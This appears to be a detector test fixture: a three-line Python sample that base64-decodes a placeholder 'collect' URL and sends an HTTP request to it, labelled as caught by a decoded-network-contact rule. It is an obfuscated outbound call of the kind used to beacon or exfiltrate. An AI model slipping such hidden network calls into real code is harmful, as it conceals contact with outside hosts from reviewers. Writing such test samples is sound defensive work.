# evades: caught by network/contacts-decoded
import base64, requests
requests.get(base64.b64decode("aHR0cDovL2NvbGxlY3QuaW52YWxpZC9h").decode())
